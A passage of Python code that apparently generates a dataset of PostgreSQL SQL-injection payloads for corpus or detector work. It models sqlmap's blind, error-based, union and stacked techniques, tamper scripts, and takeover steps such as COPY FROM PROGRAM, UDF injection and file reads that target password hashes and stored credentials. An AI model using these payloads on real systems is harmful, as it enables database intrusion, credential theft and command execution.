                "(SELECT string_agg(pubname, ',') FROM pg_publication)", "(SELECT string_agg(slot_name || ':' || coalesce(plugin, ''), ',') FROM pg_replication_slots)",
                "(SELECT string_agg(parent_table || ' ' || coalesce(retention, '-'), ';') FROM partman.part_config)",
                "(SELECT data FROM debezium_signal ORDER BY id DESC LIMIT 1)", "(SELECT setting FROM pg_file_settings WHERE name = 'ssl_key_file')",
                "(SELECT most_common_vals::text FROM pg_stats WHERE attname ILIKE '%pass%' LIMIT 1)", "(SELECT string_agg(rolname, ',') FROM pg_roles WHERE rolreplication)",
                "(SELECT array_to_string(setconfig, ',') FROM pg_db_role_setting LIMIT 1)", "pg_current_wal_lsn()::text", "(SELECT client_addr::text FROM pg_stat_replication LIMIT 1)"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    """A value an attacker wants to read (a scalar expression)."""
    t, u, p, who = loot(r)
    n = r.randint(0, 12)
    return r.choice([
        "current_user", "user", "current_role", "version()", "current_database()", "inet_server_addr()::text", "current_setting('config_file')",
        "current_setting('hba_file')", "current_setting('wal_level')", "current_setting('server_version_num')", "pg_postmaster_start_time()::text",
        "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), "(SELECT %s FROM %s ORDER BY %s OFFSET %d LIMIT 1)" % (p, t, u, n),
        "(SELECT string_agg(%s || '/' || %s, ',') FROM %s)" % (u, p, t), "(SELECT rolpassword FROM pg_authid WHERE rolname = '%s')" % r.choice(ROLES)]
        + [r.choice(SECRET_EXPRS)] * 4)


def probe_named(r, e=None):
    """(name, a yes/no question about a secret), asked a way of its own each time."""
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 36)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789")
    return r.choice([
        ("strpos_eq", "strpos(%s, '%s') = %d" % (x, ch, pos)), ("starts_with_fn", "starts_with(%s, '%s')" % (x, ch)),
        ("split_part_first", "split_part(%s, ':', 1) = '%s'" % (x, rword(r, 4))), ("regexp_count_gt", "regexp_count(%s, '[%s-z]') > %d" % (x, ch if ch.isalpha() else "a", r.randint(0, 9))),
        ("collate_c_gt", "%s COLLATE \"C\" > '%s'" % (x, ch)), ("md5_prefix", "substr(md5(%s), 1, 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("bit_length_ge", "bit_length(%s) >= %d" % (x, 8 * r.randint(1, 40))), ("array_len_split", "array_length(string_to_array(%s, '%s'), 1) > %d" % (x, ch, r.randint(1, 4))),
        ("translate_empty", "translate(%s, '%s', '') <> %s" % (x, ch, x)), ("similar_to_prefix", "%s SIMILAR TO '%s%%'" % (x, ch)),
        ("iregex_class", "%s ~* '^.{%d}[%s-f]'" % (x, pos - 1, "a")), ("ascii_right", "ascii(right(%s, %d)) > %d" % (x, pos, r.randint(48, 110))),
        ("format_len", "length(format('%%s', %s)) > %d" % (x, r.randint(1, 30))), ("to_json_like", "to_json(%s)::text LIKE '\"%s%%'" % (x, ch)),
        ("overlay_eq", "overlay(%s placing '' from 1 for %d) LIKE '%s%%'" % (x, pos, ch)), ("get_byte_lt", "get_byte(convert_to(%s, 'UTF8'), %d) < %d" % (x, pos - 1, r.randint(60, 120))),
        ("unnest_any_char", "'%s' = ANY(regexp_split_to_array(%s, ''))" % (ch, x)), ("initcap_eq", "initcap(left(%s, 1)) = '%s'" % (x, ch.upper()))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: PostgreSQL tests, boundaries, switches and tampers
def delimiter(r):
    """kb.chars start/stop: q, three letters of sqlmap's low-frequency alphabet, q."""
    return "q%sq" % "".join(r.choice("zqxjkvbp") for _ in range(3))


DUMP = {"cooperage_users": ["login", "pw_hash", "shop_floor"], "oyster_staff": ["email", "password", "lease_area"], "cave_operators": ["username", "password_digest"],
        "curling_members": ["email", "encrypted_password", "rink"], "dive_staff": ["username", "pw_sha256", "cert_no"], "saltworks_users": ["login", "passwd"],
        "orienteering_admins": ["username", "api_key"], "tannery_operators": ["login", "token", "drum_id"], "connection": ["conn_id", "host", "login", "password", "extra"],
        "rescue_volunteers": ["callsign", "pass_argon2", "phone"]}
GUESS_TABLES = ["users", "accounts", "admin", "login", "members", "staff", "operators", "credentials", "secrets", "api_keys", "tokens", "connection"]


class Enc:
    """How a request spells its strings and casts: CHR() concatenations and
    COALESCE(CAST(... AS VARCHAR(10000))::text, ...) by default, plain quotes
    under --no-escape, bare columns under --no-cast."""

    def __init__(self, r):
        x = r.random()
        self.switch = "--no-escape" if x < 0.2 else "--no-cast" if x < 0.32 else ""

    def s(self, v):
        return q(v) if self.switch == "--no-escape" else chrs(v)

    def cast(self, col):
        return col if self.switch == "--no-cast" else "COALESCE(CAST(%s AS VARCHAR(10000))::text,%s)" % (col, self.s(" "))


def enumeration(r, o):
    """(scalar query, switch): what one of sqlmap's enumeration switches asks PostgreSQL, weighted to --sql-query and switches earlier files left out."""
    tbl = r.choice(sorted(DUMP))
    cols = DUMP[tbl]
    n = r.randint(0, 30)
    k = r.randrange(22)
    if k == 0:
        return "(SELECT %s)" % o.cast("VERSION()"), "--banner"
    if k == 1:
        return "(SELECT COUNT(*) FROM pg_roles)", "--roles (count)"
    if k == 2:
        return "(SELECT %s FROM pg_roles OFFSET %d LIMIT 1)" % (o.cast("rolname"), n % 9), "--roles"
    if k == 3:
        c = r.choice(cols)
        return ("(SELECT %s FROM pg_attribute a JOIN pg_class c ON c.oid=a.attrelid WHERE c.relname=%s AND a.attname=%s AND a.attnum>0)"
                % (o.cast("FORMAT_TYPE(a.atttypid,a.atttypmod)"), o.s(tbl), o.s(c))), "--columns -T %s (type of %s)" % (tbl, c)
    if k == 4:
        return "(SELECT COUNT(attname) FROM pg_attribute a JOIN pg_class c ON c.oid=a.attrelid WHERE c.relname=%s AND a.attnum>0)" % o.s(tbl), "--columns -T %s (count)" % tbl
    if k == 5:
        return "(SELECT %s FROM pg_description d JOIN pg_class c ON c.oid=d.objoid WHERE c.relname=%s AND d.objsubid=%d)" % (o.cast("description"), o.s(tbl), r.randint(1, 4)), "--comments -T %s" % tbl
    if k in (6, 7, 8):
        c = r.choice(cols)
        start, stop = r.randint(1, 20), None
        stop = start + r.randint(0, 9)
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], start - 1), "--dump -T %s -C %s --start %d --stop %d" % (tbl, c, start, stop)
    if k == 9:
        c = r.choice(cols)
        return ("(SELECT %s FROM public.%s WHERE %s LIKE %s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], o.s(r.choice(["%adm%", "a%", "%@%", "%1"])), cols[0], n % 5),
                "--dump -T %s --where" % tbl)
    if k == 10:
        pat = r.choice(["%user%", "%cred%", "%conn%", "%secret%", "%slot%"])
        return "(SELECT COUNT(DISTINCT(tablename)) FROM pg_tables WHERE tablename LIKE %s)" % o.s(pat), "--search -T %s (count)" % pat.strip("%")
    if k == 11:
        pat = r.choice(["%user%", "%cred%", "%conn%"])
        return "(SELECT DISTINCT(%s) FROM pg_tables WHERE tablename LIKE %s OFFSET %d LIMIT 1)" % (o.cast("schemaname||'.'||tablename"), o.s(pat), n % 4), "--search -T %s" % pat.strip("%")
    if k == 12:
        return "(SELECT %s FROM pg_subscription OFFSET %d LIMIT 1)" % (o.cast("subconninfo"), n % 2), "--sql-query (pg_subscription)"
    if k == 13:
        return "(SELECT %s FROM pg_publication OFFSET %d LIMIT 1)" % (o.cast("pubname"), n % 3), "--sql-query (pg_publication)"
    if k == 14:
        return "(SELECT %s FROM pg_replication_slots OFFSET %d LIMIT 1)" % (o.cast("slot_name"), n % 3), "--sql-query (pg_replication_slots)"
    if k == 15:
        return "(SELECT %s FROM partman.part_config OFFSET %d LIMIT 1)" % (o.cast("parent_table"), n % 4), "--sql-query (partman.part_config)"
    if k == 16:
        return "(SELECT %s FROM pg_stat_replication OFFSET 0 LIMIT 1)" % o.cast("client_addr"), "--sql-query (pg_stat_replication)"
    if k == 17:
        return "(SELECT %s FROM connection WHERE conn_id=%s)" % (o.cast("password"), o.s(r.choice(["postgres_default", "aws_default", "kelp_s3", "slack_alerts"]))), "--sql-query (airflow connection)"
    if k == 18:
        return "(SELECT %s FROM pg_file_settings OFFSET %d LIMIT 1)" % (o.cast("name||'='||setting"), n), "--sql-query (pg_file_settings)"
    if k == 19:
        return "(SELECT COUNT(*) FROM debezium_signal)", "--sql-query (debezium_signal count)"
    if k == 20:
        return "(SELECT %s FROM pg_authid WHERE rolname=%s)" % (o.cast("rolpassword"), o.s(r.choice(ROLES))), "--passwords (pg_authid)"
    return "(SELECT %s FROM pg_database WHERE datallowconn OFFSET %d LIMIT 1)" % (o.cast("datname"), n % 5), "--dbs"


def inference(r, o):
    """The INFERENCE of a vector request: a bisection step over one character (or its length) of an enumeration query, or a guess of a table or column."""
    x = r.random()
    if x < 0.06:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(GUESS_TABLES)), "--common-tables"
    if x < 0.09:
        t = r.choice(sorted(DUMP))
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(["password", "passwd", "secret", "token"] + DUMP[t]), t), "--common-columns -T %s" % t
    e, sw = enumeration(r, o)
    sw = (sw + " " + o.switch).strip()
    if x < 0.7:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 45, 46, 61, 64])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 48), r.choice(bisection(v))), sw
    if x < 0.85:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 2), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 30), r.randint(33, 122)), sw + " (validation)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    SLEEP = r.choice([5, 5, 5, 4, 7, 10, 3])
    o = Enc(r)
    D1, D2 = o.s(delimiter(r)), o.s(delimiter(r))
    if vector:
        INF, sw = inference(r, o)
        QRY, qsw = enumeration(r, o)
        tag, qtag = ":" + sw, ":" + (qsw + " " + o.switch).strip()
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 5 + ["%d=%d" % (R1, R2), "%d>%d" % (max(R1, R2) + 1, min(R1, R2))])
        QRY = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = qtag = ":detection"
    H, SL, CW, HQ = sqlmap_delays(R, SLEEP, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    gs = "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF)
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 1, "AND %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 2, "OR %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause", "generic", "cond", 2, "OR %s" % INF, False),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 2,
         "OR %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
        (B, "Boolean-based blind - Parameter replace (original value)", "generic", "repl", 3,
         "(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", PG, "repl", 3, gs, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (original value)", PG, "order", 1,
         ",(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(SELECT * FROM GENERATE_SERIES(1,1,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % INF, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", PG, "stack", 1,
         ";SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1" % (R, R, INF), True),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL AND time-based blind (heavy query - comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL OR time-based blind (heavy query)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",%s" % CW(SL), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, QRY, D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%d=%d) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, R1, R1, D2), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, QRY, D2), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, QRY, D2), True),
        (EB, "PostgreSQL error-based - Stacked queries", PG, "stack", 1, ";SELECT CAST(%s||(%s)::text||%s AS NUMERIC)" % (D1, QRY, D2), True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), False),
        (SQ, "PostgreSQL stacked queries (heavy query)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), False),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, False),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, QRY, D2), False),
    ]
    if r.random() < 0.05:
        out += [
            (EB, "MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "MySQL", "cond", 1,
             "AND GTID_SUBSET(CONCAT(0x71766a7a71,(SELECT (ELT(%d=%d,1))),0x716a7a6b71),%d)" % (R1, R1, R), False),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (comment)", "Microsoft SQL Server", "stack", 1, ";WAITFOR DELAY '0:0:%d'" % SLEEP, True),
            (TB, "Oracle AND time-based blind", "Oracle", "cond", 1, "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(CHR(%d)||CHR(%d),%d)" % (R, 97, 98, SLEEP), False),
            (TB, "IBM DB2 AND time-based blind (heavy query)", "IBM DB2", "cond", 1,
             "AND %d=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)" % R, False)]
    return [(f, t, d, p, w, pl, c, qtag if f in (EB, IQ) and "GENERATE_SERIES" not in t else tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """(switch, stacked statements) of sqlmap's file-system and takeover steps on PostgreSQL."""
    oid = r.randint(20000, 99999)
    lib = "/tmp/libs%s.so" % rword(r, 4)
    cmd = r.choice(CMDS)
    page = r.randint(0, 3)
    chunk = base64.b64encode(bytes(r.randrange(256) for _ in range(18))).decode()
    sp = r.choice([chrs, q])
    return r.choice([
        ("--file-read (support table)", ";DROP TABLE IF EXISTS sqlmapfile;CREATE TABLE sqlmapfile(data bytea)"),
        ("--file-read (COPY FROM file)", ";COPY sqlmapfile(data) FROM %s" % sp(r.choice(FILES))),
        ("--file-read (hex dump)", ";SELECT ENCODE(data,%s) FROM sqlmapfile" % sp("hex")),
        ("--file-read (lo_get)", ";SELECT ENCODE(LO_GET(%d),%s)" % (oid, sp("base64"))),
        ("--file-write (delete pages)", ";DELETE FROM pg_largeobject WHERE loid=%d" % oid),
        ("--file-write (page %d)" % page, ";INSERT INTO pg_largeobject VALUES (%d,%d,DECODE(%s,%s))" % (oid, page, sp(chunk), sp("base64"))),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,%s)" % (oid, sp(r.choice([lib, "/var/lib/postgresql/15/main/%s.so" % rword(r, 6)])))),
        ("--udf-inject (sys_exec)", ";CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int4 AS %s,%s LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % (q(lib), q("sys_exec"))),
        ("--os-cmd (sys_exec)", ";SELECT sys_exec(%s)" % sp(cmd)),
        ("--os-cmd (COPY FROM PROGRAM)", ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text);COPY sqlmapoutput FROM PROGRAM %s" % sp(cmd)),
        ("--os-cmd (read output)", ";SELECT %s FROM sqlmapoutput OFFSET %d LIMIT 1" % ("COALESCE(CAST(data AS VARCHAR(10000))::text,(CHR(32)))", r.randint(0, 9))),
        ("--cleanup (udf)", ";DROP FUNCTION IF EXISTS sys_exec(text);DROP FUNCTION IF EXISTS sys_eval(text)"),
        ("--cleanup (large object)", ";SELECT lo_unlink(%d)" % oid)])


def sqlmap_union(r, vector):
    """(title, dbms, payload, where): UNION query technique requests, with --union-char and --union-from as well."""
    n, pos, filler, cols, kw, rng, where = union_request(r, 10, 5, 2, 0.45)
    if r.random() < 0.15:
        filler = r.choice(["1", "2", "%d" % r.randint(10, 99)])
        cols = [filler] * n
        uc = " --union-char=%s" % filler
    else:
        uc = ""
    x = r.randrange(8)
    if x == 0:
        return "Generic UNION query (%s) - %s columns (ORDER BY probing)" % (filler, rng), "generic", "ORDER BY %d" % r.randint(1, 16), 1
    m1, m2, m3 = chrs(delimiter(r)), chrs(delimiter(r)), chrs(delimiter(r))
    if x == 1:
        frm = r.choice(GUESS_TABLES)
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns (--union-from=%s)%s" % (filler, rng, frm, uc), "generic", "%s %s FROM %s" % (kw, ",".join(cols), frm), where
    if x == 2 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns%s" % (filler, rng, uc), "generic", "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_subscription", ["subname", "subconninfo"]), ("pg_publication", ["pubname", "puballtables"]), ("pg_replication_slots", ["slot_name", "plugin"]),
                    ("partman.part_config", ["parent_table", "partition_interval"]), ("pg_roles", ["rolname", "rolreplication", "rolbypassrls"]),
                    ("pg_authid", ["rolname", "rolpassword"]), ("pg_file_settings", ["name", "setting"])] + [("public." + t, c) for t, c in sorted(DUMP.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
    tail = r.choice(["", " OFFSET %d LIMIT 1" % r.randint(0, 20), " ORDER BY %s OFFSET %d LIMIT 1" % (src[1][0], r.randint(0, 5))])
    return "Generic UNION query (%s) - %s columns (--dump %s)%s" % (filler, rng, src[0], uc), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    """[GENERIC_SQL_COMMENT] (-- and a random string) and what users pass as --suffix instead."""
    return r.choice(["-- %s" % rstr(r)] * 7 + ["-- -", "--+", "--", "-- %s" % rstr(r, 5), ";-- -", "#"])


def invalid_value(r, orig, typ):
    """The original value of a request that must not match (where=2): sqlmap's default negative
    number, or what --invalid-bignum, --invalid-logical and --invalid-string put there."""
    x = r.random()
    if x < 0.18:
        return str(r.randint(10 ** 7, 10 ** 9 - 1)), "--invalid-bignum"
    if x < 0.34:
        k = r.randint(10, 99)
        return "%s AND %d LIKE %d" % (orig, k, k + 1), "--invalid-logical"
    if x < 0.5:
        return rstr(r, 6), "--invalid-string"
    return ("-%d" % randnum(r)) if typ in ("n", "list") or r.random() < 0.7 else "", ""


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value of one request: original (or invalid) value, boundary prefix, payload, boundary suffix.
    Boundaries: the slot's own closing quote and brackets most of the time, balancing suffixes ('x'='x, ('x' LIKE 'x,
    ("x"="x for quoted identifiers), --prefix / --suffix pairs a user supplies after reading an error, the %')
    LIKE form with AND ('%'=', and the comment forms."""
    typ, cl = si["type"], si["closers"]
    if "[ORIGVALUE]" in payload:
        payload = payload.replace("[ORIGVALUE]", orig if typ in ("n", "list") else "1")
    if where == 2 and typ not in ("col", "dir", "ident"):
        orig, _ = invalid_value(r, orig, typ)
    k = (si["cond_k"] if place == "cond" else len(cl)) if r.random() < 0.85 else r.choice([0, 1, 2, 3])
    S = rstr(r)
    cmt = sqlmap_comment(r)
    close, reopen = ")" * k, "(" * k
    if typ in ("q", "e", "qi", "d"):
        qc = '"' if typ == "qi" else "'"
        if place == "order":
            return orig + qc + payload + cmt if typ == "qi" and si["in_order"] else None
        if place == "repl":
            return payload if typ in ("qi", "d") or r.random() < 0.55 else qc + "||" + payload + "||" + qc
        if place == "stack":
            return orig + qc + close + payload + (cmt if need_comment or r.random() < 0.6 else "")
        if place == "union":
            return orig + qc + close + " " + payload + cmt
        if need_comment:
            return orig + qc + close + " " + payload + cmt
        x = r.random()
        if x < 0.1 and si["cut"] is not None:
            return orig + qc + si["cut"] + " " + payload + cmt                     # --prefix read off the error message
        if si["like"] and x < 0.45:
            return orig + "%" + qc + close + " " + payload + " AND " + reopen + qc + "%" + qc + "=" + qc
        y = r.random()
        if y < 0.4:
            return orig + qc + close + " " + payload + " AND " + reopen + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if y < 0.55:
            return orig + qc + close + " " + payload + " AND " + reopen + "%s%s%s LIKE %s%s" % (qc, S, qc, qc, S)
        if y < 0.65:
            return orig + qc + close + " " + payload + " OR " + reopen + "%s%s%s=%s%s" % (qc, S, qc, qc, rstr(r))
        return orig + qc + close + " " + payload + cmt
    if typ in ("n", "list"):
        if place == "repl":
            return payload
        if place == "order":
            return orig + payload if si["in_order"] else None
        if place == "stack":
            return orig + close + payload + (cmt if need_comment or k or r.random() < 0.4 else "")
        if place == "union":
            return orig + close + " " + payload + cmt
        if need_comment:
            return orig + close + " " + payload + cmt
        x = r.random()
        if x < 0.08 and si["cut"] is not None:
            return orig + si["cut"] + " " + payload + cmt
        if k and x < 0.75:
            R = randnum(r)
            return orig + close + " " + payload + " AND " + reopen + "%d=%d" % (R, R)
        if k or x < 0.3:
            return orig + close + " " + payload + cmt
        return orig + " " + payload
    if typ in ("col", "dir"):
        if place == "order":
            return orig + payload + (cmt if r.random() < 0.3 else "")
        if place == "repl":
            return payload if typ == "col" else None
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.5 else "")
        if place == "cond" and r.random() < 0.25:
            return orig + " " + payload + cmt
        return None
    if typ == "ident" and place == "stack":
        return orig + payload + (cmt if need_comment or r.random() < 0.6 else "")
    return None


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES ENCODE DECODE FOR""".split())


def tamper(r, name, s, typ):
    """Tamper scripts none of the earlier corpora used (percentage, apostrophenullencode, appendnullbyte,
    scientific, space2plus chained) and new chains, as they rewrite a payload (outside its literals where that matters)."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "percentage":
        return re.sub(r"%[0-9A-Fa-f]{2}|[^ ]", lambda m: m.group(0) if len(m.group(0)) == 3 else "%" + m.group(0), s)
    if name == "apostrophenullencode":
        return s.replace("'", "%00%27")
    if name == "appendnullbyte":
        return s + "%00"
    if name == "scientific":
        return outside(lambda t, i, n: re.sub(r"(\d+)(?=\s*(AND|OR|and|or|=|<|>|\)))", r"\1e0", t))
    if name == "space2plus":
        return outside(lambda t, i, n: t.replace(" ", "+"))
    if name == "randomcase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in m.group(0))
                                              if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "equaltolike":
        return outside(lambda t, i, n: re.sub(r"(?<![<>!:])=(?!>)", " LIKE ", t))
    raise KeyError(name)


TAMPERS = ["percentage", "apostrophenullencode", "appendnullbyte", "scientific", "scientific,randomcase", "appendnullbyte,space2plus",
           "equaltolike,appendnullbyte", "space2plus,scientific", "randomcase,percentage"]


union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.7), vector_share=0.62, takeover_share=0.22, tamper_share=0.09)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | open (a clause whose last string the
# template's own quote closes) | stack (statements after ;) | union (a UNION
# tail) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression) | row (more rows
# after the VALUES row the slot sits in; the core is a function of the
# row's width) | assign (more assignments in an UPDATE's SET list; {col} is
# a column the attacker wants) | returning (a RETURNING list on the DML
# statement) | conflict (an ON CONFLICT clause after the VALUES row) | iexpr
# (a term added to an interval literal) | scan (a scanner's fixed probe:
# the text after the original value, by slot type q or n).  Cores named
# stored_* are values saved through one form and replayed by a later
# statement; they go only into the templates that replay stored values.
def secs(r):
    return r.choice([4, 5, 6, 8, 10, 12, 15, 30])


DO_TAGS = ["$ex$", "$blk$", "$jb$", "$çx$", "$R2$", "$_x_$", "$body$", "$Ж$", "$plan$", "$$"]
OPEN_TAGS = ["$a$", "$txt2$", "$ζ$", "$m$", "$s1$", "$__q$", "$$", "$str$"]
SCANNER_HOSTS = ["%s.oastify.com", "%s.oast.fun", "%s.oast.live", "%s.interact.sh", "%s.burpcollaborator.net"]


def plain(cmd):
    return cmd.replace("'", "").replace('"', "")


def row_of(first, rest="DEFAULT"):
    """A row core: the attacker's first value, then rest for the other columns."""
    return lambda n: ", ".join([first] + [rest] * (n - 1))


def hand_cores(r, fam):
    a, b = r.randint(2, 90), r.randint(91, 999)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    x = "(%s)::text" % e
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    oast = r.choice(SCANNER_HOSTS) % "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.choice([10, 20])))
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(20000, 99999)
    role = r.choice(ROLES)
    pe = probe(r)
    sq = lambda v: v.replace("'", "''")
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_any_string_to_array", "OR '%s' = ANY(string_to_array('%s,%s', ','))" % (w, w, w2)), ("or_row_ctor_eq", "OR ROW(%d, '%s') = ROW(%d, '%s')" % (a, w, a, w)),
            ("or_array_contains", "OR ARRAY[%d, %d] @> ARRAY[%d]" % (a, b, b)), ("or_gt_all_subquery", "OR %d > ALL (SELECT %d)" % (b, a)),
            ("or_interval_days_gt_hours", "OR interval '%d days' > interval '%d hours'" % (a, a)), ("or_make_interval_past", "OR now() - make_interval(mins => %d) < now()" % a),
            ("or_format_eq", "OR format('%%s', %d) = '%d'" % (a, a)), ("or_to_json_eq", "OR to_json(%d)::text = '%d'" % (a, a)),
            ("or_num_nonnulls", "OR num_nonnulls(%d, NULL) = 1" % a), ("or_in_unnest", "OR '%s' IN (SELECT unnest(ARRAY['%s', '%s']))" % (w, w2, w)),
